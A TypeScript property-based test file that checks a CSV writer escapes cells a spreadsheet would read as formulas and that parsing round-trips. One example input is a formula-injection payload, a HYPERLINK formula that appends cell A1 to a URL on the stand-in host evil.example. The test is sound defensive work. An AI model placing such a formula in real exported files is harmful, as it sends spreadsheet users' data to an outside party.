import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvLine, parseCsv } from '../../../src/domain/csv.ts';

const cell = fc.oneof(
  fc.string(),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', "'=", "''@"), fc.string())
    .map((parts) => parts.join('')),
);

it('writes no cell that a spreadsheet takes for a formula', () => {
  fc.assert(
    fc.property(cell, (text) => {
      expect(csvLine([text])).not.toMatch(/^"?[=+\-@\t\r\n＝＋－＠]/);
    }),
    { examples: [['=HYPERLINK("https://evil.example/?"&A1,"shop")'], ['-1+1'], ['@SUM(1)'], ['\t=1']] },
  );
});

it('reads every cell back as it was', () => {
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2 }), (cells) => {
      expect(parseCsv(csvLine(cells), ',')).toEqual([cells]);
    }),
  );
});
